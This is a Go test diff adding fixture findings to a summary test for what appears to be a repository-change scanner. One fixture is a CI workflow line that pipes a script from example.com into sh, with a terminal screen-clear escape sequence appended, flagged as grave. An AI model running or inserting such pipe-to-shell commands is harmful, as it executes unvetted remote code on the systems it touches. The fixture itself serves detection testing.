@@ -332,6 +332,10 @@ func TestSummary(t *testing.T) {
 		},
 		Services: []workorder.ServiceEnd{{Name: "redis", State: "ready"}, {Name: "db", State: "exited", Log: "logs/db.log", Tail: "no space"}},
 		PR:       &workorder.PR{Number: 7, State: "draft", URL: "https://github.com/myorg/my-saas-app/pull/7"},
+		Surface: []workorder.SurfaceFinding{
+			{Kind: "workflow", Path: ".github/workflows/ci.yml", Line: 12, Text: "runs: curl -s https://example.com | sh\x1b[2J", Grave: true},
+			{Kind: "make", Path: "Makefile", Text: "new target deploy"},
+		},
 		Evidence: []workorder.Evidence{{Name: "screenshot", Path: "evidence/page.png"}},
 		Warnings: []string{"the storage driver is vfs, which is slow: " + strings.Repeat("very ", 20) + "slow"},
 	}
